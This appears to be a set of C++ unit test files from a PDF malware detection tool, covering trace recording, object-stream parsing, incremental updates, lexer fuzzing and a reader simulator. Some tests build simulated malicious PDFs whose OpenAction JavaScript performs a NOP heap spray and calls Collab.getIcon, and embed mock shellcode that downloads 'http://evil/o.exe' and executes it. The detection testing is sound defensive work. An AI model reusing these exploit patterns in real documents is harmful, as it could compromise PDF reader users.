  ASSERT_EQ(k.event_log().size(), 2u);
  EXPECT_EQ(k.event_log()[0].api, "connect");
  EXPECT_EQ(k.event_log()[1].api, "listen");
  EXPECT_EQ(k.dropped_events(), 0u);
}

TEST(Kernel, EventLogIsBoundedAndCountsEvictions) {
  // A hostile script looping on syscalls must not balloon kernel memory:
  // the log is a ring that keeps the most recent events and counts the
  // rest instead of silently growing (or silently forgetting).
  sy::Kernel k(/*trace_ring_capacity=*/2);
  auto& p = k.create_process("AcroRd32.exe");
  k.call_api(p.pid(), "connect", {"a", "1"});
  k.call_api(p.pid(), "listen", {"2"});
  k.call_api(p.pid(), "NtAddAtom", {});
  ASSERT_EQ(k.event_log().size(), 2u);
  EXPECT_EQ(k.event_log()[0].api, "listen");
  EXPECT_EQ(k.event_log()[1].api, "NtAddAtom");
  EXPECT_EQ(k.dropped_events(), 1u);
}
