// Trace spine: ring wraparound, recorder thread-safety (exercised under
// TSan via the "batch" ctest label), JSONL serialization, and the replay
// property — a detector verdict and the Table-X phase breakdown can be
// reconstructed from the emitted event stream alone.
#include <algorithm>
#include <set>
#include <sstream>
#include <thread>

#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "core/trace_replay.hpp"
#include "corpus/generator.hpp"
#include "reader/reader_sim.hpp"
#include "support/rng.hpp"
#include "sys/kernel.hpp"
#include "trace/recorder.hpp"

namespace pdfshield {
namespace {

trace::Payload sample(std::uint64_t n) {
  return trace::CounterSample{"n", n};
}

TEST(RingSink, WraparoundKeepsMostRecentAndCountsDropped) {
  trace::Recorder rec("s", /*ring_capacity=*/4);
  for (std::uint64_t i = 0; i < 10; ++i) rec.record(sample(i));

  const std::vector<trace::Event> events = rec.events();
  ASSERT_EQ(events.size(), 4u);
  EXPECT_EQ(rec.ring_dropped(), 6u);
  // Oldest-first, and exactly the last four recorded.
  for (std::size_t i = 0; i < events.size(); ++i) {
    EXPECT_EQ(events[i].seq, 6u + i);
    const auto& counter = std::get<trace::CounterSample>(events[i].payload);
    EXPECT_EQ(counter.value, 6u + i);
  }
}

TEST(Recorder, StampsSessionDocAndKind) {
  trace::Recorder rec("session-1", 8);
  rec.set_doc("a.pdf");
  rec.record(trace::SoapMessage{"enter", true, false});
  rec.record_for("b.pdf", trace::Confinement{"sandbox", "calc.exe"});

  const auto events = rec.events();
  ASSERT_EQ(events.size(), 2u);
  EXPECT_EQ(events[0].session, "session-1");
  EXPECT_EQ(events[0].doc, "a.pdf");
  EXPECT_EQ(events[0].kind(), trace::Kind::kSoapMessage);
  EXPECT_EQ(events[1].doc, "b.pdf");
  EXPECT_EQ(trace::kind_name(events[1].kind()), "confinement");
  // Monotonic stamps.
  EXPECT_LT(events[0].seq, events[1].seq);
  EXPECT_LE(events[0].t_ns, events[1].t_ns);
}

TEST(TraceJsonl, SerializesAndEscapes) {
  trace::Event event;
  event.seq = 7;
  event.t_ns = 123;
  event.session = "abc";
  event.doc = "dir/we\"ird\n.pdf";
  event.payload = trace::ApiCall{42, "NtCreateFile", {"c:\\drop.exe"}, 1024,
                                 false};
  const std::string line = trace::to_jsonl(event);
  EXPECT_EQ(line.front(), '{');
  EXPECT_EQ(line.back(), '}');
  EXPECT_NE(line.find("\"kind\":\"api-call\""), std::string::npos);
  EXPECT_NE(line.find("\"seq\":7"), std::string::npos);
  EXPECT_NE(line.find("\"doc\":\"dir/we\\\"ird\\n.pdf\""), std::string::npos);
  EXPECT_NE(line.find("\"args\":[\"c:\\\\drop.exe\"]"), std::string::npos);
  EXPECT_EQ(line.find('\n'), std::string::npos);  // one line per event
}

TEST(JsonlSink, WritesOneLinePerEvent) {
  std::ostringstream out;
  auto sink = std::make_shared<trace::JsonlSink>(out);
  trace::Recorder rec("s", 0);
  rec.add_sink(sink);
  rec.record(sample(1));
  rec.record(sample(2));
  EXPECT_EQ(sink->lines_written(), 2u);
  const std::string text = out.str();
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 2);
}

// The concurrency test behind the "batch" ctest label: many threads share
// one recorder and its sinks. TSan must see no races; counts must add up.
TEST(Recorder, MultithreadedRecordingIsConsistent) {
  constexpr int kThreads = 4;
  constexpr std::uint64_t kPerThread = 500;

  std::ostringstream out;
  trace::Recorder rec("mt", /*ring_capacity=*/64);
  auto jsonl = std::make_shared<trace::JsonlSink>(out);
  auto counters = std::make_shared<trace::CounterSink>();
  rec.add_sink(jsonl);
  rec.add_sink(counters);

  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&rec, t] {
      const std::string doc = "doc-" + std::to_string(t);
      for (std::uint64_t i = 0; i < kPerThread; ++i) {
        rec.record_for(doc, trace::CounterSample{"i", i});
      }
    });
  }
  for (auto& t : threads) t.join();

  const std::uint64_t total = kThreads * kPerThread;
  EXPECT_EQ(counters->total(), total);
  EXPECT_EQ(counters->count(trace::Kind::kCounter), total);
  EXPECT_EQ(jsonl->lines_written(), total);
  EXPECT_EQ(rec.events().size(), 64u);
  EXPECT_EQ(rec.ring_dropped(), total - 64);
  EXPECT_EQ(rec.counters().total, total);

  // Sequence numbers are unique: the retained ring holds 64 distinct ones.
  std::set<std::uint64_t> seqs;
  for (const auto& event : rec.events()) seqs.insert(event.seq);
  EXPECT_EQ(seqs.size(), 64u);
}

// ---------------------------------------------------------------------------
// Replay: the event stream alone carries the verdict and the timings.
// ---------------------------------------------------------------------------

core::trace_replay::ReplayedVerdict detonate_and_replay(const support::Bytes& file,
                                          const std::string& name,
                                          core::Verdict* live_out) {
  sys::Kernel kernel(/*trace_ring_capacity=*/8192);
  support::Rng rng(0xfeedULL);
  core::RuntimeDetector detector(kernel, rng);
  core::FrontEnd frontend(detector.detector_id());
  reader::ReaderSim reader(kernel);
  detector.attach(reader);

  kernel.trace().set_doc(name);
  core::FrontEndResult fe = frontend.process(file, &kernel.trace());
  EXPECT_TRUE(fe.ok);
  detector.register_document(fe.record.key, name, fe.features);
  for (const auto& emb : fe.embedded) {
    detector.register_document(emb.record.key, emb.name, emb.features);
  }
  reader.open_document(fe.output, name);

  *live_out = detector.verdict(fe.record.key);
  return core::trace_replay::replay_verdict(kernel.trace().events(), name);
}

TEST(TraceReplay, MaliciousVerdictReconstructedFromStreamAlone) {
  corpus::CorpusGenerator gen;
  int convicted = 0;
  for (auto& s : gen.generate_malicious(4)) {
    core::Verdict live;
    const core::trace_replay::ReplayedVerdict replayed =
        detonate_and_replay(s.data, s.name, &live);
    EXPECT_EQ(replayed.malicious, live.malicious) << s.name;
    EXPECT_DOUBLE_EQ(replayed.malscore, live.malscore) << s.name;
    if (live.malicious) ++convicted;
  }
  EXPECT_GT(convicted, 0);  // the corpus must actually exercise the path
}

TEST(TraceReplay, BenignDocumentReplaysToZero) {
  corpus::CorpusGenerator gen;
  for (auto& s : gen.generate_benign(3)) {
    core::Verdict live;
    const core::trace_replay::ReplayedVerdict replayed =
        detonate_and_replay(s.data, s.name, &live);
    EXPECT_FALSE(replayed.malicious) << s.name;
    EXPECT_EQ(replayed.malicious, live.malicious) << s.name;
    EXPECT_DOUBLE_EQ(replayed.malscore, live.malscore) << s.name;
    EXPECT_FALSE(replayed.fake_message) << s.name;
  }
}

TEST(TraceReplay, PhaseTimingsRebuiltFromSpans) {
  corpus::CorpusGenerator gen;
  auto samples = gen.generate_benign(1);
  ASSERT_FALSE(samples.empty());

  trace::Recorder rec("t", 256);
  rec.set_doc(samples[0].name);
  core::FrontEnd frontend("0123456789abcdef");
  const core::FrontEndResult result = frontend.process(samples[0].data, &rec);
  ASSERT_TRUE(result.ok);

  const core::PhaseTimings rebuilt = core::trace_replay::phase_timings_from_trace(
      rec.events(), samples[0].name);
  EXPECT_DOUBLE_EQ(rebuilt.parse_decompress_s,
                   result.timings.parse_decompress_s);
  EXPECT_DOUBLE_EQ(rebuilt.feature_extraction_s,
                   result.timings.feature_extraction_s);
  EXPECT_DOUBLE_EQ(rebuilt.instrumentation_s,
                   result.timings.instrumentation_s);
  EXPECT_GT(rebuilt.total_s(), 0.0);
}

TEST(TraceReplay, TracedProcessMatchesUntracedOutput) {
  // Tracing must be observation-only: same bytes out with and without it.
  corpus::CorpusGenerator gen;
  auto samples = gen.generate_malicious(1);
  ASSERT_FALSE(samples.empty());
  core::FrontEnd frontend("0123456789abcdef");
  trace::Recorder rec("t", 0);
  const auto traced = frontend.process(samples[0].data, &rec);
  const auto plain = frontend.process(samples[0].data);
  ASSERT_TRUE(traced.ok);
  ASSERT_TRUE(plain.ok);
  EXPECT_EQ(traced.output, plain.output);
}

}  // namespace
}  // namespace pdfshield
