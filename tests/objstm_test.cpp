// Tests for object-stream (/ObjStm) handling: the parser must open
// compressed object containers — a standard PDF-1.5 feature malicious
// documents abuse to hide Javascript from shallow scanners — and the full
// pipeline must detect attacks hidden this way.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/jschain.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "pdf/filters.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

namespace {

// Hand-built document with two objects packed in an ObjStm.
sp::Bytes handmade_objstm_pdf() {
  pd::Document doc;
  const std::string inner1 = "<< /Type /Catalog /OpenAction 11 0 R >>";
  const std::string inner2 =
      "<< /S /JavaScript /JS (var hidden_marker = 42;) >>";
  std::string payload = "10 0 11 " + std::to_string(inner1.size() + 1) + "\n";
  const std::size_t first = payload.size();
  payload += inner1 + " " + inner2;

  pd::EncodedStream enc =
      pd::encode_stream(sp::to_bytes(payload), {"FlateDecode"});
  pd::Stream objstm;
  objstm.dict.set("Type", pd::Object::name("ObjStm"));
  objstm.dict.set("N", pd::Object(2));
  objstm.dict.set("First", pd::Object(static_cast<std::int64_t>(first)));
  objstm.dict.set("Filter", enc.filter);
  objstm.data = enc.data;
  objstm.dict.set("Length",
                  pd::Object(static_cast<std::int64_t>(objstm.data.size())));
  doc.set_object({1, 0}, pd::Object(objstm));
  doc.trailer().set("Root", pd::Object(pd::Ref{10, 0}));
  return pd::write_document(doc);
}

}  // namespace

TEST(ObjStm, ParserExpandsPackedObjects) {
  pd::ParseStats stats;
  pd::Document doc = pd::parse_document(handmade_objstm_pdf(), &stats);
  // 1 container + 2 packed objects.
  EXPECT_EQ(stats.indirect_objects, 3u);
  const pd::Object* catalog = doc.object({10, 0});
  ASSERT_NE(catalog, nullptr);
  EXPECT_EQ(catalog->as_dict().at("Type").as_name().value, "Catalog");
  const pd::Object* action = doc.object({11, 0});
  ASSERT_NE(action, nullptr);
  EXPECT_TRUE(action->as_dict().contains("JS"));
}

TEST(ObjStm, JsChainsReachIntoObjectStreams) {
  pd::Document doc = pd::parse_document(handmade_objstm_pdf());
  const co::JsChainAnalysis chains = co::analyze_js_chains(doc);
  ASSERT_EQ(chains.sites.size(), 1u);
  EXPECT_EQ(chains.sites[0].source, "var hidden_marker = 42;");
  EXPECT_TRUE(chains.sites[0].triggered);
}

TEST(ObjStm, ExistingObjectsAreNotOverwritten) {
  // A plain definition of object 11 must win over the packed copy.
  std::string text = sp::to_string(handmade_objstm_pdf());
  text += "11 0 obj\n<< /S /JavaScript /JS (var plain_wins = 1;) >>\nendobj\n";
  pd::Document doc = pd::parse_document(sp::to_bytes(text));
  const co::JsChainAnalysis chains = co::analyze_js_chains(doc);
  ASSERT_EQ(chains.sites.size(), 1u);
  EXPECT_EQ(chains.sites[0].source, "var plain_wins = 1;");
}

TEST(ObjStm, CorruptContainerIsSkippedGracefully) {
  sp::Bytes file = handmade_objstm_pdf();
  // Corrupt the Flate payload (but keep the file parseable).
  for (std::size_t i = file.size() / 2; i < file.size() / 2 + 8; ++i) {
    file[i] ^= 0x55;
  }
  EXPECT_NO_THROW({
    try {
      pd::parse_document(file);
    } catch (const sp::ParseError&) {
      // acceptable: no objects at all left
    }
  });
}

TEST(ObjStm, BuilderPacksOpenActionAndReaderStillRuns) {
  sp::Rng rng(1);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var ran_from_objstm = 1;");
  builder.pack_js_into_object_stream();
  const sp::Bytes file = builder.build();

  // The raw file no longer shows the action in plain sight.
  EXPECT_EQ(sp::to_string(file).find("ran_from_objstm"), std::string::npos);

  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  auto r = reader.open_document(file, "packed.pdf");
  EXPECT_TRUE(r.parsed);
  EXPECT_TRUE(r.js_ran);
}

TEST(ObjStm, HiddenAttackDetectedEndToEnd) {
  sy::Kernel kernel;
  sp::Rng rng(2);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEnd frontend(rng, detector.detector_id());
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/o.exe", "c:/o.exe"}});
  prog.ops.push_back({"EXEC", {"c:/o.exe"}});
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
  builder.pack_js_into_object_stream();

  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.ok);
  ASSERT_EQ(fe.record.entries.size(), 1u)
      << "instrumenter must reach into the object stream";
  detector.register_document(fe.record.key, "objstm.pdf", fe.features);
  reader.open_document(fe.output, "objstm.pdf");
  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/o.exe"));
}
