// Tests for incremental-update serialization (PDF §3.4.5): the fast
// instrumentation path that appends only changed objects to the original
// bytes instead of rewriting the whole document.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "pdf/crypto.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

TEST(IncrementalWriter, AppendsOnlyChangedObjects) {
  sp::Rng rng(1);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(3, 600);
  builder.set_open_action_js("var original = 1;");
  const sp::Bytes base = builder.build();

  pd::Document doc = pd::parse_document(base);
  // Change one object: overwrite the action's /JS.
  int action_num = 0;
  for (auto& [num, obj] : doc.objects()) {
    if ((obj.is_dict() || obj.is_stream()) &&
        obj.dict_or_stream_dict().contains("JS")) {
      obj.dict_or_stream_dict().set("JS", pd::Object::string("var patched = 2;"));
      action_num = num;
    }
  }
  ASSERT_GT(action_num, 0);

  const sp::Bytes updated =
      pd::write_incremental_update(base, doc, {action_num});
  // Base bytes are a strict prefix.
  ASSERT_GT(updated.size(), base.size());
  EXPECT_TRUE(std::equal(base.begin(), base.end(), updated.begin()));
  // The delta is small (one object + xref + trailer).
  EXPECT_LT(updated.size() - base.size(), 600u);

  // Re-parsing sees the patched definition (later revision wins).
  pd::Document again = pd::parse_document(updated);
  const pd::Object* action = again.object({action_num, 0});
  ASSERT_NE(action, nullptr);
  EXPECT_EQ(sp::to_string(
                again.resolve(action->dict_or_stream_dict().at("JS")).as_string().data),
            "var patched = 2;");
  // /Prev chains to the base revision's xref.
  EXPECT_TRUE(again.trailer().contains("Prev"));
}

TEST(IncrementalWriter, ContiguousRunsShareSubsections) {
  pd::Document doc;
  for (int i = 1; i <= 6; ++i) doc.set_object({i, 0}, pd::Object(i));
  const sp::Bytes base = pd::write_document(doc);
  const sp::Bytes updated =
      pd::write_incremental_update(base, doc, {2, 3, 4, 6});
  const std::string text = sp::to_string(updated);
  // One subsection "2 3" and one "6 1" in the appended xref.
  const std::size_t tail = base.size();
  EXPECT_NE(text.find("2 3\n", tail), std::string::npos);
  EXPECT_NE(text.find("6 1\n", tail), std::string::npos);
}

TEST(IncrementalPipeline, InstrumentsViaAppendAndStillDetects) {
  sy::Kernel kernel;
  sp::Rng rng(2);
  co::RuntimeDetector detector(kernel, rng);
  co::FrontEndOptions options;
  options.incremental_update = true;
  co::FrontEnd frontend(rng, detector.detector_id(), options);
  rd::ReaderSim reader(kernel);
  detector.attach(reader);

  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/inc.exe", "c:/inc.exe"}});
  prog.ops.push_back({"EXEC", {"c:/inc.exe"}});
  cp::DocumentBuilder builder(rng);
  builder.add_pages(6, 900);  // sizeable base the fast path must not copy...
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
  const sp::Bytes base = builder.build();

  co::FrontEndResult fe = frontend.process(base);
  ASSERT_TRUE(fe.ok);
  EXPECT_TRUE(fe.incremental_used);
  // Prefix property: original bytes untouched.
  ASSERT_GE(fe.output.size(), base.size());
  EXPECT_TRUE(std::equal(base.begin(), base.end(), fe.output.begin()));

  detector.register_document(fe.record.key, "inc.pdf", fe.features);
  reader.open_document(fe.output, "inc.pdf");
  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/inc.exe"));
}

TEST(IncrementalPipeline, BenignSemanticsPreserved) {
  sp::Rng rng(3);
  co::FrontEndOptions options;
  options.incremental_update = true;
  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);

  cp::DocumentBuilder builder(rng);
  builder.add_pages(2, 300);
  builder.set_open_action_js("var checksum = 11 * 3;");
  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.ok);
  EXPECT_TRUE(fe.incremental_used);

  sy::Kernel kernel;
  rd::ReaderSim reader(kernel);
  int soap = 0;
  reader.set_soap_endpoint("http://127.0.0.1:8777/",
                           [&](const pdfshield::js::Value&) {
                             ++soap;
                             return pdfshield::js::Value();
                           });
  auto r = reader.open_document(fe.output, "benign-inc.pdf");
  EXPECT_TRUE(r.js_ran);
  EXPECT_FALSE(r.crashed);
  EXPECT_EQ(soap, 2);  // enter + exit: the wrapper runs from the update
}

TEST(IncrementalPipeline, EncryptedInputFallsBackToFullRewrite) {
  sp::Rng rng(4);
  co::FrontEndOptions options;
  options.incremental_update = true;
  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);

  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var x = 1;");
  pd::encrypt_document(builder.document(), "pw", rng);
  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.ok);
  EXPECT_TRUE(fe.password_removed);
  EXPECT_FALSE(fe.incremental_used)
      << "appending plaintext to a ciphertext base would be incoherent";
  pd::Document out = pd::parse_document(fe.output);
  EXPECT_FALSE(pd::is_encrypted(out));
}

TEST(IncrementalPipeline, JsFreeDocumentFallsBackToFullRewrite) {
  sp::Rng rng(5);
  co::FrontEndOptions options;
  options.incremental_update = true;
  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(2, 300);
  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.ok);
  EXPECT_FALSE(fe.incremental_used);  // nothing changed, nothing to append
}

TEST(IncrementalPipeline, DeinstrumentationStillWorksOnUpdates) {
  sp::Rng rng(6);
  co::FrontEndOptions options;
  options.incremental_update = true;
  co::FrontEnd frontend(rng, co::generate_detector_id(rng), options);
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js("var keepme = 'original-body';");
  co::FrontEndResult fe = frontend.process(builder.build());
  ASSERT_TRUE(fe.incremental_used);

  pd::Document doc = pd::parse_document(fe.output);
  co::Instrumenter::deinstrument(doc, fe.record);
  const auto sites = co::analyze_js_chains(doc).sites;
  ASSERT_EQ(sites.size(), 1u);
  EXPECT_EQ(sites[0].source, "var keepme = 'original-body';");
}
