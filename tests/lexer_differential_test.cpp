// Differential test: the table-driven PDF lexer in src/pdf must produce a
// token stream identical to the retained byte-at-a-time reference lexer
// (tests/reference_lexer.hpp) on every input — same kinds, offsets, decoded
// bytes, numeric values, and the same ParseError diagnostics at the same
// positions. Mirrors the inflate oracle pattern in reference_inflate.hpp /
// flate_differential_test.cpp.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "corpus/generator.hpp"
#include "pdf/lexer.hpp"
#include "reference_lexer.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace pdfshield {
namespace {

using support::Bytes;
using support::BytesView;

/// Walks both lexers from `start`, comparing token for token. Returns the
/// position to resynchronize from after an error (one byte past the
/// failure, the recovery parser's skip policy), or npos when the walk
/// reached EOF cleanly.
std::size_t cross_check_from(BytesView data, std::size_t start,
                             const std::string& context) {
  pdf::Lexer fast(data, start);
  reference::Lexer ref(data, start);
  int tokens = 0;
  while (true) {
    pdf::Token ft;
    pdf::Token rt;
    bool fast_ok = true;
    bool ref_ok = true;
    std::string fast_err;
    std::string ref_err;
    try {
      ft = fast.next();
    } catch (const support::ParseError& e) {
      fast_ok = false;
      fast_err = e.what();
    }
    try {
      rt = ref.next();
    } catch (const support::ParseError& e) {
      ref_ok = false;
      ref_err = e.what();
    }
    const std::string at = context + " token #" + std::to_string(tokens);
    EXPECT_EQ(fast_ok, ref_ok)
        << at << ": lexers disagree on validity (fast: "
        << (fast_ok ? "ok" : fast_err)
        << ", reference: " << (ref_ok ? "ok" : ref_err) << ")";
    if (!fast_ok || !ref_ok) {
      EXPECT_EQ(fast_err, ref_err) << at;
      EXPECT_EQ(fast.position(), ref.position()) << at << ": error positions";
      return std::max(fast.position(), ref.position()) + 1;
    }
    EXPECT_EQ(static_cast<int>(ft.kind), static_cast<int>(rt.kind)) << at;
    EXPECT_EQ(ft.offset, rt.offset) << at;
    EXPECT_EQ(ft.text, rt.text) << at;
    EXPECT_EQ(ft.raw, rt.raw) << at;
    EXPECT_EQ(ft.hex_string, rt.hex_string) << at;
    EXPECT_EQ(ft.int_value, rt.int_value) << at;
    EXPECT_EQ(ft.real_value, rt.real_value) << at;
    EXPECT_EQ(ft.bytes.size(), rt.bytes.size()) << at;
    if (ft.bytes.size() == rt.bytes.size()) {
      EXPECT_TRUE(
          std::equal(ft.bytes.begin(), ft.bytes.end(), rt.bytes.begin()))
          << at << ": decoded string bytes differ";
    }
    EXPECT_EQ(fast.position(), ref.position()) << at;
    if (ft.kind == pdf::TokenKind::kEof) return std::string_view::npos;
    ++tokens;
    if (tokens >= (1 << 22)) {
      ADD_FAILURE() << at << ": runaway token stream";
      return std::string_view::npos;
    }
  }
}

/// Full differential walk with error resynchronization, so one bad
/// construct does not hide later divergence.
void cross_check(BytesView data, const std::string& context) {
  std::size_t start = 0;
  while (start <= data.size()) {
    const std::size_t next = cross_check_from(data, start, context);
    if (next == std::string_view::npos || next <= start) break;
    start = next;
  }
}

void cross_check_str(const std::string& text, const std::string& context) {
  cross_check(BytesView(reinterpret_cast<const std::uint8_t*>(text.data()),
                        text.size()),
              context);
}

TEST(LexerDifferentialTest, CorpusDocumentsTokenizeIdentically) {
  corpus::CorpusConfig config;
  config.seed = 0x5EED0007;
  config.spray_min_bytes = 16u << 10;
  config.spray_max_bytes = 64u << 10;
  corpus::CorpusGenerator gen(config);
  for (const corpus::Sample& sample : gen.generate_benign(12)) {
    cross_check(sample.data, sample.name);
  }
  for (const corpus::Sample& sample : gen.generate_malicious(12)) {
    cross_check(sample.data, sample.name);
  }
}

TEST(LexerDifferentialTest, AdversarialConstructs) {
  std::vector<std::string> cases = {
      // Names: escapes, bad escapes, escape at end, long runs.
      "/Name /A#42C /#41 /bad#zz /trail# /#",
      "/a#4 /a#4q /hash#23#23end",
      "/" + std::string(100, 'n') + " /" + std::string(17, 'm') + "#6a",
      "/x" + std::string(40, 'y') + "#41z",
      "/UPPER#6a#6B#6C /0 //double /()",
      // Numbers: signs, dots, widths around the 18-digit exact window.
      "0 -0 +0 007 -17 .5 -.5 4. 1.2.3 999999999999999999 "
      "9999999999999999999 -999999999999999999 -9999999999999999999 "
      "123456789012345678901234567890 + - . +. -. 00000000000000000005",
      // Literal strings: nesting, escapes, continuations, octal, edge EOLs.
      "(plain) (nested (deep (er))) (esc \\n\\r\\t\\b\\f\\(\\)\\\\ done)",
      "(octal \\0 \\53 \\053 \\533 \\7777) (q\\z) (\\()",
      "(unterminated", "(unterminated (nested)", "(ends in backslash\\",
      "(esc then unterminated \\n", "()", "(())", "(\\))",
      // Hex strings: odd digits, whitespace, invalid chars, truncation.
      "<48656C6C6F> <48 65 6c> <5> <> <ABCDEF0123456789>",
      "<4G> <", "<48656", "<48 \t\r\n 65>",
      // Dicts, arrays, stray delimiters, braces.
      "<< /K [1 2 R] >> >> > ] [ { } {}",
      "[/N 5 0 R (s) <AB> << /D 1 >>]",
      // Comments and EOL edge cases.
      "% comment\n1", "% comment\r2", "% comment\r\n3", "%no newline",
      "1 % mid\n 2", "%\n%\r%%EOF\n9",
      // Keywords incl. long ones crossing the 16-byte inline head.
      "obj endobj stream endstream xref trailer startxref true false null R " +
          std::string(64, 'k'),
      // Unexpected bytes.
      "\x7f", "\"quoted\"", "#41",
      // Empty input.
      "",
  };
  {
    // Names carrying high bytes (regular characters per §3.1) and a NUL.
    std::string high = "/hi";
    high.push_back('\x80');
    high.push_back('\xff');
    high.push_back('\xfe');
    high += "bytes /tail";
    cases.push_back(high);
    // String continuations with every EOL flavor after the backslash.
    std::string cont = "(cont\\";
    cont += "\r\nnext) (c2\\";
    cont += "\rnext) (c3\\";
    cont += "\nnext)";
    cases.push_back(cont);
    // Whitespace soup including NUL and FF, with tokens between.
    std::string soup;
    for (char c : {'\x00', '\x09', '\x0a', '\x0c', '\x0d', '\x20'}) {
      soup.push_back(c);
    }
    soup += "7";
    soup.push_back('\x00');
    soup += "8";
    cases.push_back(soup);
    // Raw control bytes that are neither whitespace nor regular starts.
    std::string ctl;
    ctl.push_back('\x01');
    ctl.push_back('\x02');
    ctl.push_back('\x03');
    cases.push_back(ctl);
    // NUL inside a literal string and a hex string.
    std::string nul = "(a";
    nul.push_back('\x00');
    nul += "b) <41";
    nul.push_back('\x00');
    nul += "42>";
    cases.push_back(nul);
  }
  int i = 0;
  for (const std::string& c : cases) {
    cross_check_str(c, "adversarial case #" + std::to_string(i++));
  }
}

TEST(LexerDifferentialTest, SeededRandomFuzz) {
  // Random byte soup biased toward PDF structural characters so token
  // boundaries, not just junk-byte errors, get exercised.
  support::Rng rng(0x1E8E5);
  std::string alphabet = "()<>[]{}/%#\\ \t\r\n0123456789+-.aAfFnRz";
  alphabet.push_back('\x00');
  alphabet.push_back('\x80');
  alphabet.push_back('\xff');
  for (int round = 0; round < 200; ++round) {
    const std::size_t n = 1 + static_cast<std::size_t>(rng.below(300));
    std::string s;
    s.reserve(n);
    for (std::size_t k = 0; k < n; ++k) {
      if (rng.below(8) == 0) {
        s.push_back(static_cast<char>(rng.below(256)));
      } else {
        s.push_back(alphabet[static_cast<std::size_t>(
            rng.below(alphabet.size()))]);
      }
    }
    cross_check_str(s, "fuzz round " + std::to_string(round));
  }
}

}  // namespace
}  // namespace pdfshield
