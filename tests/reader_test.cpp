// Tests for the reader simulator + Acrobat JS API: trigger walking,
// exploitation model (version gating, spray requirements, crashes),
// shellcode execution through the hookable API surface, memory accounting.
#include <gtest/gtest.h>

#include "pdf/document.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "reader/vulnerability.hpp"
#include "sys/kernel.hpp"

namespace pd = pdfshield::pdf;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

namespace {

// Builds a one-page PDF whose /OpenAction runs `script`.
sp::Bytes pdf_with_open_action(const std::string& script) {
  pd::Document doc;
  pd::Dict action;
  action.set("S", pd::Object::name("JavaScript"));
  action.set("JS", pd::Object::string(script));
  const pd::Ref action_ref = doc.add_object(pd::Object(action));

  pd::Dict page;
  page.set("Type", pd::Object::name("Page"));
  const pd::Ref page_ref = doc.add_object(pd::Object(page));

  pd::Dict pages;
  pages.set("Type", pd::Object::name("Pages"));
  pages.set("Kids", pd::Object(pd::Array{pd::Object(page_ref)}));
  pages.set("Count", pd::Object(1));
  const pd::Ref pages_ref = doc.add_object(pd::Object(pages));

  pd::Dict catalog;
  catalog.set("Type", pd::Object::name("Catalog"));
  catalog.set("Pages", pd::Object(pages_ref));
  catalog.set("OpenAction", pd::Object(action_ref));
  const pd::Ref cat_ref = doc.add_object(pd::Object(catalog));

  doc.trailer().set("Root", pd::Object(cat_ref));
  return pd::write_document(doc);
}

// Spray loop reaching ~4 MiB physical (x64 scale = 256 MB reported), with
// the shellcode program embedded in the payload unit.
std::string spray_script(const std::string& shellcode,
                         const char* target = "4194304") {
  return "var unit = unescape('%u9090%u9090%u9090%u9090') + '" + shellcode +
         "';"
         "var spray = unit;"
         "while (spray.length < " + std::string(target) + ") spray += spray;"
         "var keep = spray;";
}

}  // namespace

// ---------------------------------------------------------------------------
// Shellcode wire format
// ---------------------------------------------------------------------------

TEST(Shellcode, EncodeExtractRoundTrip) {
  rd::ShellcodeProgram prog;
